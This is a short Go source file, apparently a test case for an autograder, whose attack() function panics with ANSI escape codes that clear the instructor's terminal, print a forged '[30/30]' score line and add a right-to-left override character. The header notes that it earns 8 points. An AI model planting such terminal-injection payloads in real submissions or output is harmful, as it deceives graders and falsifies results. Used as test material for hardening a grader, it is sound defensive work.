// Tries: writes escapes to the instructor's terminal by a panic (35)
// Gets: 8 points
// Base: solution
// In: Learn

package perceptron

func attack() {
	panic("\x1b[2J\x1b[1;1H[30/30] eve 10 of 10\n\u202e")
}
